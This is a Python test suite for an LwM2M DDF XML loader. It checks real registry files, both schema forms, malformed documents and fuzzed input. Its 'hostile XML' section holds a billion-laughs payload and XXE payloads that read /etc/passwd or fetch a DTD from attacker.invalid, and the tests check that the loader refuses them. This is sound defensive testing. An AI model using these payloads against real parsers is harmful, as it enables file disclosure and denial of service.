"""The OMA DDF XML loader: real registry files, both schema forms, and hostile input."""

from __future__ import annotations

import re
import time
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from m2mclient.errors import DefinitionError
from m2mclient.lwm2m.ddf import MAX_DDF_BYTES, DdfDocument, load_ddf
from m2mclient.lwm2m.model import DataType, Operations
from m2mclient.lwm2m.registry import Registry

# The OMA registry checkout lives beside the repository (/work/shared next to /work/main).
REGISTRY_DIR = Path(__file__).resolve().parents[2].parent / "shared" / "lwm2m-registry"

DTD_REFUSED = "DTDs and entities are not allowed in DDF files"


def _registry_dir() -> Path:
    if not REGISTRY_DIR.is_dir():
        pytest.skip(f"OMA LwM2M registry not found at {REGISTRY_DIR}; these tests read its DDF files")
    return REGISTRY_DIR


# --- building small documents -------------------------------------------------------


def _item(
    resource_id: str = "0",
    *,
    name: str = "Value",
    operations: str = "R",
    data_type: str = "Integer",
    multiple: str = "Single",
    mandatory: str = "Optional",
) -> str:
    return (
        f'<Item ID="{resource_id}"><Name>{name}</Name><Operations>{operations}</Operations>'
        f"<MultipleInstances>{multiple}</MultipleInstances><Mandatory>{mandatory}</Mandatory>"
        f"<Type>{data_type}</Type><RangeEnumeration></RangeEnumeration><Units></Units>"
        f"<Description>test</Description></Item>"
    )


def _object(object_id: str = "32000", *items: str, extra: str = "", object_type: str = "MODefinition") -> str:
    return (
        f'<Object ObjectType="{object_type}"><Name>Sample</Name><Description1>d</Description1>'
        f"<ObjectID>{object_id}</ObjectID><ObjectURN>urn:oma:lwm2m:x:{object_id}</ObjectURN>{extra}"
        f"<MultipleInstances>Multiple</MultipleInstances><Mandatory>Optional</Mandatory>"
        f"<Resources>{''.join(items or (_item(),))}</Resources><Description2></Description2></Object>"
    )


def _document(*objects: str) -> bytes:
    return f'<?xml version="1.0" encoding="UTF-8"?>\n<LWM2M>{"".join(objects)}</LWM2M>'.encode()


def _refused(data: bytes) -> str:
    """The DefinitionError message load_ddf gives for ``data`` (failing if it loads)."""
    with pytest.raises(DefinitionError) as caught:
        load_ddf(data)
    return str(caught.value)


# --- the real registry --------------------------------------------------------------


def test_every_registry_file_loads() -> None:
    files = sorted(_registry_dir().glob("*.xml"))
    documents = {path.name: load_ddf(path) for path in files}

    kinds = Counter(document.kind for document in documents.values())
    objects = [definition for document in documents.values() for definition in document.objects]
    assert len(files) >= 330
    assert len(objects) > 300
    assert kinds["reusable-resources"] == 1
    assert {name for name, document in documents.items() if document.kind == "other"} == {
        "DDF.xml",
        "LWM2M_senml_units.xml",
    }
    assert len({definition.id for definition in objects}) == len(objects), "an object id is defined twice"
    assert sum(len(definition.resources) for definition in objects) > 3000


def test_registry_files_define_the_object_they_are_named_after() -> None:
    for path in _registry_dir().glob("*.xml"):
        if re.fullmatch(r"\d+\.xml", path.name):
            assert [definition.id for definition in load_ddf(path).objects] == [int(path.stem)], path.name


def test_device_object_from_registry() -> None:
    (device,) = load_ddf(_registry_dir() / "3.xml").objects

    manufacturer = device.resources[0]
    assert (device.id, device.name, device.version, device.multiple, device.mandatory) == (
        3,
        "Device",
        "1.2",
        False,
        True,
    )
    assert (manufacturer.name, manufacturer.type, manufacturer.operations) == (
        "Manufacturer",
        DataType.STRING,
        Operations.R,
    )
    assert device.resources[4].type is DataType.NONE and device.resources[4].operations == Operations.E
    assert device.resources[11].multiple and device.resources[11].mandatory
    assert device.description.startswith("This LwM2M Object provides a range of device related information")


def test_common_xml_gives_reusable_resources() -> None:
    document = load_ddf(_registry_dir() / "Common.xml")

    resources = {resource.id: resource for resource in document.reusable_resources}
    assert document.kind == "reusable-resources"
    assert document.objects == ()
    assert len(resources) > 100
    assert (resources[4000].name, resources[4000].type) == ("ObjectInstanceHandle", DataType.OBJLNK)
    # Common.xml gives no instance rules; a reusable resource takes them from the object that uses it.
    assert not resources[4000].multiple and not resources[4000].mandatory


def test_registry_whitespace_is_normalised() -> None:
    (security,) = load_ddf(_registry_dir() / "0.xml").objects

    assert security.resources[0].name == "LWM2M Server URI"  # the file writes "LWM2M  Server URI"


def test_registry_load_ddf_adds_the_objects() -> None:
    registry = Registry()

    added = registry.load_ddf(_registry_dir() / "3303.xml")

    assert [definition.id for definition in added] == [3303]
    assert 3303 in registry


# --- the two schema forms -----------------------------------------------------------

SCHEMA_1_0_SAMPLE = b"""<?xml version="1.0" encoding="utf-8"?>
<LWM2M xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
       xsi:noNamespaceSchemaLocation="http://openmobilealliance.org/tech/profiles/LWM2M.xsd">
  <Object ObjectType="MODefinition">
    <Name>Light Control</Name>
    <Description1><![CDATA[Controls a light & reports its <state>.]]></Description1>
    <ObjectID>3311</ObjectID>
    <ObjectURN>urn:oma:lwm2m:ext:3311</ObjectURN>
    <MultipleInstances>Multiple</MultipleInstances>
    <Mandatory>Optional</Mandatory>
    <Resources>
      <Item ID="5850">
        <Name>On/Off</Name>
        <Operations>RW</Operations>
        <MultipleInstances>Single</MultipleInstances>
        <Mandatory>Mandatory</Mandatory>
        <Type>Boolean</Type>
        <RangeEnumeration></RangeEnumeration>
        <Units></Units>
        <Description>On/off control.</Description>
      </Item>
      <Item ID="5851">
        <Name>Dimmer</Name>
        <Operations>RW</Operations>
        <MultipleInstances>Single</MultipleInstances>
        <Mandatory>Optional</Mandatory>
        <Type>Integer</Type>
        <RangeEnumeration>0..100</RangeEnumeration>
        <Units>/100</Units>
        <Description>Proportional control.</Description>
      </Item>
    </Resources>
    <Description2></Description2>
  </Object>
</LWM2M>
"""

# Hand-edited 1.1 files: two objects, lower-case words, stray whitespace, the 1.1 types.
SCHEMA_1_1_SAMPLE = b"""<?xml version="1.0" encoding="UTF-8"?>
<LWM2M xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance"
       xsi:noNamespaceSchemaLocation="http://www.openmobilealliance.org/tech/profiles/LWM2M-v1_1.xsd">
  <Object ObjectType="MODefinition">
    <Name>  Meter
      Reading </Name>
    <Description1>Reads a meter.</Description1>
    <ObjectID> 33001 </ObjectID>
    <ObjectURN>urn:oma:lwm2m:x:33001:2.1</ObjectURN>
    <LWM2MVersion>1.1</LWM2MVersion>
    <ObjectVersion> 2.1 </ObjectVersion>
    <MultipleInstances>single</MultipleInstances>
    <Mandatory> MANDATORY </Mandatory>
    <Resources>
      <Item ID="0">
        <Name>Total</Name>
        <Operations> R </Operations>
        <MultipleInstances>multiple</MultipleInstances>
        <Mandatory>optional</Mandatory>
        <Type>unsigned   integer</Type>
        <RangeEnumeration>
        </RangeEnumeration>
        <Units> Wh </Units>
        <Description></Description>
      </Item>
      <Item ID="1">
        <Name>Links</Name>
        <Operations>R</Operations>
        <MultipleInstances>Single</MultipleInstances>
        <Mandatory>Optional</Mandatory>
        <Type>Corelnk</Type>
        <RangeEnumeration/>
        <Units/>
        <Description/>
      </Item>
      <Item ID="2">
        <Name>Reset</Name>
        <Operations>E</Operations>
        <MultipleInstances>Single</MultipleInstances>
        <Mandatory>Optional</Mandatory>
        <Type></Type>
        <RangeEnumeration></RangeEnumeration>
        <Units></Units>
        <Description></Description>
      </Item>
    </Resources>
    <Description2></Description2>
  </Object>
  <Object ObjectType="MODefinition">
    <Name>Second</Name>
    <Description1></Description1>
    <ObjectID>33002</ObjectID>
    <ObjectURN></ObjectURN>
    <LWM2MVersion></LWM2MVersion>
    <ObjectVersion></ObjectVersion>
    <MultipleInstances>Multiple</MultipleInstances>
    <Mandatory>Optional</Mandatory>
    <Resources></Resources>
    <Description2></Description2>
  </Object>
</LWM2M>
"""


def test_schema_1_0_sample_defaults_versions() -> None:
    document = load_ddf(SCHEMA_1_0_SAMPLE)

    (light,) = document.objects
    assert document.kind == "objects"
    assert (light.id, light.name, light.version, light.lwm2m_version) == (3311, "Light Control", "1.0", "1.0")
    assert (light.multiple, light.mandatory, light.urn) == (True, False, "urn:oma:lwm2m:ext:3311")
    assert light.description == "Controls a light & reports its <state>."
    on_off, dimmer = light.resources[5850], light.resources[5851]
    assert (on_off.type, on_off.operations, on_off.mandatory) == (DataType.BOOLEAN, Operations.RW, True)
    assert (dimmer.range_enumeration, dimmer.units, dimmer.description) == ("0..100", "/100", "Proportional control.")


def test_schema_1_1_sample_tolerates_case_and_whitespace() -> None:
    meter, second = load_ddf(SCHEMA_1_1_SAMPLE).objects

    assert (meter.id, meter.name, meter.version, meter.lwm2m_version) == (33001, "Meter Reading", "2.1", "1.1")
    assert (meter.multiple, meter.mandatory) == (False, True)
    total, links, reset = meter.resources[0], meter.resources[1], meter.resources[2]
    assert (total.type, total.multiple, total.mandatory) == (DataType.UNSIGNED_INTEGER, True, False)
    assert (total.range_enumeration, total.units) == ("", "Wh")
    assert links.type is DataType.CORELNK
    assert (reset.type, reset.operations) == (DataType.NONE, Operations.E)
    assert (second.id, second.version, second.lwm2m_version, second.resources) == (33002, "1.0", "1.0", {})


def test_loads_from_a_path_or_a_str(tmp_path: Path) -> None:
    path = tmp_path / "3311.xml"
    path.write_bytes(SCHEMA_1_0_SAMPLE)

    assert load_ddf(path) == load_ddf(str(path)) == load_ddf(SCHEMA_1_0_SAMPLE)


def test_element_and_attribute_names_are_case_insensitive_and_prefixes_ignored() -> None:
    data = _document(_object("32000", _item("7"))).replace(b"<ObjectID>", b"<ObjectId>")
    data = data.replace(b"</ObjectID>", b"</ObjectId>").replace(b'<Item ID="7">', b'<ddf:Item id="7">')
    data = data.replace(b"</Item>", b"</ddf:Item>")

    (definition,) = load_ddf(data).objects

    assert (definition.id, list(definition.resources)) == (32000, [7])


def test_definition_free_documents_load_as_other() -> None:
    assert load_ddf(b"<DDFList><Item><ObjectID>0</ObjectID></Item></DDFList>") == DdfDocument(kind="other")
    assert load_ddf(b"<units><title>Additional SenML Units</title></units>").objects == ()


# --- hostile XML --------------------------------------------------------------------

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE LWM2M [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<LWM2M><Object ObjectType="MODefinition"><Name>&lol9;</Name><ObjectID>1</ObjectID></Object></LWM2M>
"""


def test_billion_laughs_is_refused_quickly() -> None:
    started = time.monotonic()

    message = _refused(BILLION_LAUGHS)

    assert DTD_REFUSED in message
    assert time.monotonic() - started < 1.0


def test_external_entity_is_refused_without_reading_the_file(tmp_path: Path) -> None:
    secret = tmp_path / "secret.txt"
    secret.write_text("TOP-SECRET-CONTENT")
    for target in ("file:///etc/passwd", secret.as_uri()):
        data = (
            f'<?xml version="1.0"?><!DOCTYPE LWM2M [<!ENTITY xxe SYSTEM "{target}">]>'
            f'<LWM2M><Object ObjectType="MODefinition"><Name>&xxe;</Name><ObjectID>1</ObjectID></Object></LWM2M>'
        ).encode()

        message = _refused(data)

        assert DTD_REFUSED in message
        assert "TOP-SECRET-CONTENT" not in message and "root:" not in message


@pytest.mark.parametrize(
    "doctype",
    [
        b'<!DOCTYPE LWM2M [<!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote;]>',
        b"<!DOCTYPE LWM2M [<!ENTITY % p \"<!ENTITY x 'y'>\"> %p;]>",
        b'<!DOCTYPE LWM2M SYSTEM "http://attacker.invalid/evil.dtd">',
        b'<!DOCTYPE LWM2M PUBLIC "-//X//Y" "file:///etc/passwd">',
        b"<!DOCTYPE LWM2M>",
    ],
    ids=["parameter-entity-remote", "parameter-entity-inline", "external-dtd", "public-dtd", "bare-doctype"],
)
def test_any_doctype_is_refused(doctype: bytes) -> None:
    data = b'<?xml version="1.0"?>' + doctype + _document(_object()).split(b"\n", 1)[1]

    assert DTD_REFUSED in _refused(data)


def test_undeclared_entity_is_malformed() -> None:
    assert "malformed XML" in _refused(b"<LWM2M>&xxe;</LWM2M>")


# --- malformed and invalid documents ------------------------------------------------


def test_malformed_xml_reports_the_position() -> None:
    message = _refused(b"<LWM2M>\n<Object>\n</LWM2M>")

    assert "malformed XML" in message and "line 3" in message


def test_truncated_registry_file_is_refused(tmp_path: Path) -> None:
    whole = (_registry_dir() / "3.xml").read_bytes()
    truncated = tmp_path / "3.xml"
    truncated.write_bytes(whole[: len(whole) * 2 // 3])

    with pytest.raises(DefinitionError, match="malformed XML") as caught:
        load_ddf(truncated)

    assert str(truncated) in str(caught.value)


@pytest.mark.parametrize("data", [b"", b"   ", b"\x00\xff\xfe", b"not xml at all", b"<LWM2M>"])
def test_garbage_is_malformed(data: bytes) -> None:
    assert "malformed XML" in _refused(data)


def test_wrong_root_is_named() -> None:
    message = _refused(b"<html><body>404</body></html>")

    assert "root element is <html>" in message and "<LWM2M>" in message


def test_document_without_objects_is_refused() -> None:
    assert "contains no <Object>" in _refused(b"<LWM2M></LWM2M>")


@pytest.mark.parametrize(
    ("object_id", "expected"),
    [
        ("abc", "object id 'abc' is not a decimal integer"),
        ("-1", "is not a decimal integer"),
        ("1.5", "is not a decimal integer"),
        ("", "is not a decimal integer"),
        ("65535", "object id 65535 is out of range 0..65534"),
        ("70000", "out of range"),
        ("9" * 5000, "out of range"),
    ],
)
def test_bad_object_id(object_id: str, expected: str) -> None:
    assert expected in _refused(_document(_object(object_id)))


def test_missing_object_id() -> None:
    data = _document(_object("1")).replace(b"<ObjectID>1</ObjectID>", b"")

    assert "has no <ObjectID>" in _refused(data)


@pytest.mark.parametrize(
    ("item", "expected"),
    [
        (_item("x"), "object 32000: resource id 'x' is not a decimal integer"),
        (_item("65536"), "resource id 65536 is out of range"),
        ("<Item><Name>N</Name><Operations>R</Operations><Type>String</Type></Item>", "an <Item> has no ID attribute"),
        (_item("5", data_type="Strin"), "object 32000, resource 5: unknown data type 'Strin'"),
        (_item("5", data_type="Double"), "expected 'String', 'Integer'"),
        (_item("5", operations="RX"), "object 32000, resource 5: unknown operations 'RX'"),
        (_item("5", multiple="Sometimes"), "<MultipleInstances> 'sometimes' is not Single or Multiple"),
        (_item("5", mandatory="Yes"), "<Mandatory> 'yes' is not Optional or Mandatory"),
        (_item("5", name=""), "object 32000, resource 5: <Name> is missing or empty"),
    ],
)
def test_bad_resource(item: str, expected: str) -> None:
    assert expected in _refused(_document(_object("32000", item)))


def test_missing_type_is_refused() -> None:
    data = _document(_object("32000", _item("5"))).replace(b"<Type>Integer</Type>", b"")

    assert "object 32000, resource 5: <Type> is missing" in _refused(data)


def test_duplicate_resource_id() -> None:
    data = _document(_object("32000", _item("1"), _item("2"), _item("1")))

    assert "object 32000: duplicate resource id 1" in _refused(data)


def test_duplicate_object_id() -> None:
    assert "object id 32000 is defined twice" in _refused(_document(_object("32000"), _object("32000")))


def test_duplicate_element_is_ambiguous() -> None:
    data = _document(_object("32000", extra="<ObjectVersion>1.0</ObjectVersion><ObjectVersion>2.0</ObjectVersion>"))

    assert "has 2 <ObjectVersion> elements" in _refused(data)


def test_bad_version() -> None:
    data = _document(_object("32000", extra="<ObjectVersion>one</ObjectVersion>"))

    assert "object 32000: <ObjectVersion> 'one' is not a version like '1.0'" in _refused(data)


def test_unknown_object_type() -> None:
    data = _document(_object("32000", object_type="Widget"))

    assert "is neither MODefinition nor CommonResources" in _refused(data)


def test_unsupported_encoding() -> None:
    message = _refused(b'<?xml version="1.0" encoding="no-such-codec"?><LWM2M/>')

    assert "encoding" in message


def test_error_names_the_file(tmp_path: Path) -> None:
    path = tmp_path / "broken.xml"
    path.write_bytes(_document(_object("32000", _item("1", data_type="Strin"))))

    with pytest.raises(DefinitionError) as caught:
        load_ddf(path)

    assert str(caught.value).startswith(f"DDF file {path}: object 32000, resource 1: unknown data type")


def test_unreadable_sources(tmp_path: Path) -> None:
    with pytest.raises(DefinitionError, match="cannot read DDF file .*missing.xml"):
        load_ddf(tmp_path / "missing.xml")
    with pytest.raises(DefinitionError, match="cannot read DDF file"):
        load_ddf(tmp_path)  # a directory
    with pytest.raises(DefinitionError, match="cannot read DDF file"):
        load_ddf("bad\x00name.xml")


def test_oversized_file_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "huge.xml"
    with path.open("wb") as file:
        file.truncate(MAX_DDF_BYTES + 1)  # sparse: costs no disk

    with pytest.raises(DefinitionError, match="larger than"):
        load_ddf(path)


def test_xml_passed_as_str_gets_a_hint() -> None:
    with pytest.raises(DefinitionError, match="pass the XML as bytes"):
        load_ddf(SCHEMA_1_0_SAMPLE.decode())


def test_non_path_source_is_a_type_error() -> None:
    with pytest.raises(TypeError):
        load_ddf(3)  # type: ignore[arg-type]


def test_deep_nesting_is_harmless() -> None:
    depth = 100_000
    data = b"<LWM2M>" + b"<a>" * depth + b"</a>" * depth + b"</LWM2M>"

    assert "contains no <Object>" in _refused(data)


# --- properties ---------------------------------------------------------------------


def _loads_or_refuses(data: bytes) -> None:
    try:
        document = load_ddf(data)
    except DefinitionError:
        return
    assert isinstance(document, DdfDocument)


@settings(max_examples=200, deadline=None)
@given(st.binary(max_size=2000))
def test_any_bytes_load_or_raise_definition_error(data: bytes) -> None:
    _loads_or_refuses(data)


@settings(max_examples=200, deadline=None)
@given(
    st.lists(
        st.tuples(st.integers(min_value=0, max_value=len(SCHEMA_1_1_SAMPLE)), st.integers(0, 8), st.binary(max_size=8)),
        max_size=4,
    )
)
def test_mutated_documents_load_or_raise_definition_error(edits: list[tuple[int, int, bytes]]) -> None:
    # Random bytes rarely get past the XML parser; splicing a valid document reaches the field checks.
    data = SCHEMA_1_1_SAMPLE
    for position, removed, inserted in edits:
        data = data[:position] + inserted + data[position + removed :]

    _loads_or_refuses(data)
